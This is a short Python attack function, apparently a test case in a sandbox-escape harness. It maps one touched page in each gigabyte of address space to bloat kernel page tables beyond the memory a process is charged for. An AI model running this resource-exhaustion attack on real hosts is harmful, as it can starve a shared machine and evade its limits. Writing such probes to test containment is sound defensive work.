# Attempts: make page tables take more than the memory they describe: one page in each gigabyte.

def attack(world):
    import ctypes, time
    libc = ctypes.CDLL(None, use_errno=True)
    libc.mmap.restype = ctypes.c_void_p
    libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
    failed, made = ctypes.c_void_p(-1).value, 0
    for number in range(26_000):
        at = libc.mmap((1 << 40) + (number << 30), 4096, 3, 0x100022, -1, 0)
        if at not in (None, failed):
            ctypes.memset(at, 1, 1)
            made += 1
    time.sleep(30)
    return "escaped", made
